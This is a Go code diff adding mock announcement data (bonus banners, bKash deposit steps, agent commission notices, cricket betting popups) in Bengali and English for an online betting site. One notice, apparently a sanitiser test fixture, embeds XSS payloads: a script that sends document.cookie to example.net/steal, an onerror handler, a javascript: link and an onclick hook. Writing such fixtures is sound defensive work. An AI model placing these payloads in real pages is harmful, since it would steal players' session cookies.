@@ -17,8 +17,9 @@ type notice struct {
 	id         string
 	title      text
 	content    text
-	group      string // banners only
-	picture    string // banners: url; others: the first announcement image
+	group      string                   // banners only
+	picture    string                   // banners: url; others: the first announcement image
+	images     []wire.AnnouncementImage // more pictures, as the back office numbered them (not in order)
 	link       string
 	noExpiry   bool
 	categories []int // promotions only
@@ -49,6 +50,14 @@ var banners = []notice{
 	{
 		id: "1102", group: "m_hotgames", picture: "/media/banners/m_hotgames-2.jpg", link: "/m/gameList?gameType=RNG&vassalage=PG",
 		title: text{"পিজি সফট মাহজং ওয়েজ ২ — নতুন ফ্রি স্পিন", "PG Soft Mahjong Ways 2: New Free Spins"},
+	},
+	{
+		id: "1301", group: "m_reg", picture: "/media/banners/m_reg-1.jpg", link: "/m/activityDetail?id=3001",
+		title: text{"নিবন্ধন করুন, প্রথম ডিপোজিটে ১০০% বোনাস", "Sign up today: 100% on your first deposit"},
+		content: text{
+			"<p>আজই অ্যাকাউন্ট খুলুন এবং প্রথম ডিপোজিটে <strong>৳১,৮৮৮ পর্যন্ত ১০০% বোনাস</strong> নিন। শুধুমাত্র ১৮ বছর বা তার বেশি বয়সীদের জন্য।</p>",
+			"<p>Open an account today and get <strong>100% up to ৳1,888</strong> on your first deposit. For players aged 18 and over only.</p>",
+		},
 	},
 	{
 		id: "1201", group: "m_leftmenu", picture: "/media/banners/m_leftmenu-1.jpg", link: "/m/app",
@@ -101,6 +110,50 @@ var playerNotices = []notice{
 			"<p>Set a daily deposit limit in the Security Centre and take regular breaks. For players aged 18 and over only.</p>",
 		},
 	},
+	{
+		id: "2006", noExpiry: true,
+		// The back office numbers the pictures; it does not send them in order.
+		images: []wire.AnnouncementImage{
+			{Sequence: 3, URL: "/media/banners/notice-2006-3.jpg"},
+			{Sequence: 1, URL: "/media/banners/notice-2006-1.jpg"},
+			{Sequence: 2, URL: "/media/banners/notice-2006-2.jpg"},
+		},
+		title: text{"বিকাশে ডিপোজিট: ৩ ধাপে", "Depositing with bKash in 3 steps"},
+		content: text{
+			"<p>ছবিগুলো দেখুন:</p><ol><li>ডিপোজিট পাতায় <strong>বিকাশ</strong> বেছে নিন।</li><li>দেখানো নম্বরে টাকা পাঠান এবং রেফারেন্সে আপনার আইডি লিখুন।</li><li>ট্রানজ্যাকশন আইডি দিয়ে <em>জমা দিন</em> চাপুন।</li></ol>",
+			"<p>Follow the pictures:</p><ol><li>Choose <strong>bKash</strong> on the deposit page.</li><li>Send the money to the number shown, with your ID as the reference.</li><li>Enter the transaction ID and tap <em>Submit</em>.</li></ol>",
+		},
+	},
+	{
+		// Written carelessly, or by someone who broke into the back office: the BFF's sanitiser
+		// must let none of its script reach a player.
+		id: "2007", noExpiry: true,
+		title: text{"ভুয়া লিংক থেকে সাবধান", "Beware of fake links"},
+		content: text{
+			`<p>আমরা শুধু এই সাইটের লিংক পাঠাই। অন্য কোনো পাতায় কখনো পাসওয়ার্ড দেবেন না।</p><script>fetch("https://example.net/steal?c="+document.cookie)</script><img src="x" onerror="alert('xss')"><p><a href="javascript:alert(document.cookie)">বোনাস নিন</a></p><p style="color:#b91c1c" onclick="steal()">সন্দেহজনক বার্তা পেলে লাইভ চ্যাটে জানান।</p>`,
+			`<p>We only ever send links to this site. Never enter your password on any other page.</p><script>fetch("https://example.net/steal?c="+document.cookie)</script><img src="x" onerror="alert('xss')"><p><a href="javascript:alert(document.cookie)">Claim your bonus</a></p><p style="color:#b91c1c" onclick="steal()">Report suspicious messages to live chat.</p>`,
+		},
+	},
+}
+
+// agentNotices are the agents' notices (A), of the agents' home (group m_home).
+var agentNotices = []notice{
+	{
+		id: "2101", group: "m_home", noExpiry: true,
+		title: text{"অক্টোবরের কমিশন পরিশোধ করা হয়েছে", "October's commission has been paid"},
+		content: text{
+			"<p>অক্টোবর ২০২৬-এর এজেন্ট কমিশন আপনার মূল ওয়ালেটে জমা হয়েছে। বিস্তারিত দেখুন <strong>এজেন্ট রিবেট আয়</strong> পাতায়।</p>",
+			"<p>Agent commission for October 2026 has been paid into your main wallet. See <strong>Agent rebate income</strong> for the details.</p>",
+		},
+	},
+	{
+		id: "2102", group: "m_home",
+		title: text{"১ ডিসেম্বর থেকে নতুন রিবেট টেবিল", "New rebate table from 1 December"},
+		content: text{
+			"<p>১ ডিসেম্বর ২০২৬ থেকে স্লট ও লাইভ গেমের রিবেট হার বাড়ছে। আপনার ডাউনলাইনের হার <strong>গেম রিবেট সেটিংস</strong> থেকে ঠিক করুন।</p>",
+			"<p>From 1 December 2026 the rebate rates of slots and live games go up. Set your downlines' rates in <strong>Game rebate settings</strong>.</p>",
+		},
+	},
 }
 
 var popups = []notice{
@@ -110,6 +163,14 @@ var popups = []notice{
 		content: text{
 			"<p>আজই ডিপোজিট করুন এবং ৳১,৮৮৮ পর্যন্ত ১০০% বোনাস নিন। টার্নওভার ১৫ গুণ। শর্ত প্রযোজ্য।</p>",
 			"<p>Deposit today and get a 100% bonus up to ৳1,888. 15x turnover. Terms apply.</p>",
+		},
+	},
+	{
+		id: "2502", picture: "/media/banners/popup-bpl.jpg", link: "/m/sport-games",
+		title: text{"বিপিএল ২০২৬ শুরু হচ্ছে", "BPL 2026 starts this week"},
+		content: text{
+			"<p>প্রতিটি ম্যাচে লাইভ বাজি, এবং হারানো স্পোর্টস বাজির ৫% প্রতি সোমবার ফেরত।</p>",
+			"<p>Live bets on every match, and 5% of lost sports bets back every Monday.</p>",
 		},
 	},
 }
@@ -178,6 +239,7 @@ func announcements() map[string]wire.Announcements {
 			Popup:     render(lang, popups, false),
 			Promotion: render(lang, promotions, false),
 			Hot:       render(lang, hotNotices, false),
+			Agent:     render(lang, agentNotices, false),
 		}
 	}
 	return out
@@ -209,6 +271,7 @@ func render(lang string, ns []notice, banner bool) []wire.Announcement {
 		case n.picture != "":
 			a.AnnouncementImages = append(a.AnnouncementImages, wire.AnnouncementImage{Sequence: 1, URL: n.picture})
 		}
+		a.AnnouncementImages = append(a.AnnouncementImages, n.images...)
 		out = append(out, a)
 	}
 	return out
